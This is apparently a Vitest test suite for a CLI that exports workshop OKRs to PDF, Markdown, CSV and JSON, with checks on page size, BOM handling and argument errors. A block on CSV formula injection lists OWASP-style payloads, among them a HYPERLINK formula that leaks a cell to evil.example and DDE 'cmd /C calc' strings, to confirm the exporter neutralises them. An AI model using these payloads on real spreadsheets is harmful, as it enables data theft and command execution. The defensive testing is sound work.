import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { encodeOffsiteFile } from '../../shared/model/offsite-file';
import { importWorkshopJson } from '../../shared/model/interchange';
import { CSV_HEADER } from '../../shared/export';
import { sampleJson } from '../support/export-workshops';

const root = join(import.meta.dirname, '..', '..');
const fixture = join(root, 'test', 'fixtures', 'acme-2027.json');
let dir: string;

function offsite(...args: string[]) {
  const r = spawnSync(process.execPath, [join(root, 'bin', 'offsite.mjs'), 'export', ...args], {
    cwd: dir,
    encoding: 'utf8',
    timeout: 60_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const out = (name: string) => join(dir, name);

function pdfInfo(file: string) {
  const text = execFileSync('pdfinfo', [file], { encoding: 'utf8' });
  return {
    pages: Number(/^Pages:\s+(\d+)/m.exec(text)?.[1]),
    size: /^Page size:\s+(.*)$/m.exec(text)?.[1],
  };
}

beforeAll(() => {
  execFileSync(process.execPath, ['scripts/build-cli.mjs'], { cwd: root, stdio: 'inherit' });
  dir = mkdtempSync(join(tmpdir(), 'offsite-cli-export-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('offsite export', () => {
  it('--pdf writes an A4 PDF and says so on stderr only', () => {
    const r = offsite(fixture, '--pdf', out('a4.pdf'), '--participants', 'Ana, Ben');
    expect(r.stderr).toMatch(/^offsite export: wrote .*a4\.pdf \(PDF, A4, \d+ KB\)\n$/);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    const info = pdfInfo(out('a4.pdf'));
    expect(info.size).toMatch(/\(A4\)$/);
    expect(info.pages).toBeGreaterThanOrEqual(4);
    const text = execFileSync('pdftotext', ['-raw', out('a4.pdf'), '-'], { encoding: 'utf8' });
    expect(text).toContain('Make the first visit the only visit');
    expect(text).toContain('Ana, Ben');
  });

  it('--paper letter writes US Letter pages', () => {
    const r = offsite(fixture, '--pdf=' + out('letter.pdf'), '--paper', 'letter');
    expect(r.code).toBe(0);
    expect(pdfInfo(out('letter.pdf')).size).toBe('612 x 792 pts (letter)');
  });

  it('--md writes the Markdown', () => {
    const r = offsite(fixture, '--md', out('okrs.md'));
    expect(r.code).toBe(0);
    const md = readFileSync(out('okrs.md'), 'utf8');
    expect(md.startsWith('# Acme Field Service — 2027 planning offsite\n')).toBe(true);
    expect(md).toContain('| KR 2.2 | Qualified DACH pipeline from €0.8M to €2.5M |');
  });

  it('--csv writes one row per key result, and --bom adds the byte order mark', () => {
    expect(offsite(fixture, '--csv', out('krs.csv')).code).toBe(0);
    const csv = readFileSync(out('krs.csv'));
    expect(csv[0]).not.toBe(0xef);
    const rows = parse(csv) as string[][];
    expect(rows[0]).toEqual([...CSV_HEADER]);
    expect(rows).toHaveLength(8);
    expect(offsite(fixture, '--csv', out('bom.csv'), '--bom').code).toBe(0);
    const bom = readFileSync(out('bom.csv'));
    expect([...bom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bom.subarray(3).equals(csv)).toBe(true);
  });

  it('--json writes the interchange JSON, equal to the input', () => {
    expect(offsite(fixture, '--json', out('round.json')).code).toBe(0);
    const text = readFileSync(out('round.json'), 'utf8');
    expect(text.endsWith('}\n')).toBe(true);
    expect(text).toContain('\n  "format": "offsite.workshop",');
    expect(JSON.parse(text)).toEqual(JSON.parse(readFileSync(fixture, 'utf8')));
  });

  it('reads an .offsite workshop file too', () => {
    const doc = new Y.Doc();
    importWorkshopJson(doc, sampleJson());
    writeFileSync(out('acme.offsite'), encodeOffsiteFile(doc));
    expect(offsite(out('acme.offsite'), '--csv', out('from-offsite.csv')).code).toBe(0);
    expect(readFileSync(out('from-offsite.csv'), 'utf8')).toBe(
      readFileSync(out('krs.csv'), 'utf8'),
    );
  });

  describe('CSV formula injection (issue 15, item 10)', () => {
    // Payloads from OWASP's CSV-injection page and the issue, one per text column.
    const PAYLOADS = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ] as const;

    /** One objective per payload, with the payload in every text column of its KR row. */
    function injected(): string {
      const data = sampleJson();
      data.objectives = PAYLOADS.map((payload, i) => ({
        id: `o-${i}`,
        title: payload,
        team: payload,
        keyResults: [
          {
            id: `k-${i}`,
            title: payload,
            metric: payload,
            unit: payload,
            baseline: -5,
            target: 2.5,
          },
        ],
      }));
      data.checkIns = [];
      for (const p of data.projects) p.focusAreaIds = [];
      const file = out('injected.json');
      writeFileSync(file, JSON.stringify(data));
      return file;
    }

    it('guards every payload by default: a leading quote, the cell quoted, numbers untouched', () => {
      const r = offsite(injected(), '--csv', out('guarded.csv'));
      expect(r.code).toBe(0);
      const text = readFileSync(out('guarded.csv'), 'utf8');
      const rows = parse(text, { record_delimiter: '\r\n' }) as string[][];
      expect(rows).toHaveLength(1 + PAYLOADS.length);
      for (const [i, payload] of PAYLOADS.entries()) {
        const row = rows[i + 1]!;
        expect(row.slice(0, 5)).toEqual(Array(5).fill(`'${payload}`));
        expect(row.slice(5, 7)).toEqual(['-5', '2.5']);
      }
      // No field of the file starts with a formula character, quoted or not.
      const fields = text.split(/,|\r\n/).map((f) => f.replace(/^"/, ''));
      expect(fields.filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
      expect(text).toContain(
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`,
      );
    });

    it('--raw writes every payload exactly as typed', () => {
      const r = offsite(injected(), '--csv', out('raw.csv'), '--raw');
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(/\(CSV, 6 key results, raw, \d+ bytes\)/);
      const rows = parse(readFileSync(out('raw.csv'), 'utf8'), {
        record_delimiter: '\r\n',
      }) as string[][];
      for (const [i, payload] of PAYLOADS.entries()) {
        expect(rows[i + 1]!.slice(0, 5)).toEqual(Array(5).fill(payload));
      }
    });

    it('--help documents --raw', () => {
      const r = offsite('--help');
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('[--raw]');
      expect(r.stdout).toMatch(/--raw\s+CSV: write cells exactly as typed/);
    });
  });

  describe('bad input or arguments: exit 2, a clear message, nothing written', () => {
    const cases: [string, () => string[], RegExp][] = [
      ['a missing file', () => [out('nope.json'), '--pdf', out('x.pdf')], /nope\.json/],
      [
        'an invalid workshop',
        () => {
          writeFileSync(out('bad.json'), JSON.stringify({ ...sampleJson(), objectives: 'none' }));
          return [out('bad.json'), '--md', out('x.md')];
        },
        /bad\.json[\s\S]*objectives/,
      ],
      [
        'not a workshop at all',
        () => {
          writeFileSync(out('junk.bin'), 'hello, not JSON');
          return [out('junk.bin'), '--csv', out('x.csv')];
        },
        /junk\.bin/,
      ],
      [
        'two output flags',
        () => [fixture, '--pdf', out('x.pdf'), '--md', out('x.md')],
        /exactly one output, got --pdf and --md/,
      ],
      ['no output flag', () => [fixture], /expected one output/],
      ['no FILE', () => ['--md', out('x.md')], /expected a FILE/],
      ['an output flag without a value', () => [fixture, '--md'], /--md needs a value/],
      [
        'a bad paper size',
        () => [fixture, '--pdf', out('x.pdf'), '--paper', 'a5'],
        /--paper must be a4 or letter/,
      ],
      [
        '--paper with Markdown',
        () => [fixture, '--md', out('x.md'), '--paper', 'letter'],
        /--paper applies only to --pdf/,
      ],
      [
        '--bom with JSON',
        () => [fixture, '--json', out('x.json'), '--bom'],
        /--bom applies only to --csv/,
      ],
      [
        '--raw with Markdown',
        () => [fixture, '--md', out('x.md'), '--raw'],
        /--raw applies only to --csv/,
      ],
      [
        'an unknown option',
        () => [fixture, '--md', out('x.md'), '--fast'],
        /unknown option --fast/,
      ],
      [
        'an output folder that does not exist',
        () => [fixture, '--md', join(dir, 'no', 'such', 'x.md')],
        /x\.md/,
      ],
    ];
    it.each(cases)('%s', (_, args, message) => {
      const r = offsite(...args());
      expect(r.stderr).toMatch(message);
      expect(r.code).toBe(2);
      expect(r.stdout).toBe('');
      for (const name of ['x.pdf', 'x.md', 'x.csv', 'x.json'])
        expect(existsSync(out(name))).toBe(false);
    });

    it('keeps an existing output file as it was when the input is bad', () => {
      writeFileSync(out('keep.md'), 'old contents\n');
      const r = offsite(out('missing.json'), '--md', out('keep.md'));
      expect(r.code).toBe(2);
      expect(readFileSync(out('keep.md'), 'utf8')).toBe('old contents\n');
    });

    it('refuses to write over its own input', () => {
      const copy = out('self.json');
      writeFileSync(copy, readFileSync(fixture));
      const r = offsite(copy, '--json', copy);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/is the input file/);
      expect(readFileSync(copy, 'utf8')).toBe(readFileSync(fixture, 'utf8'));
    });
  });
});
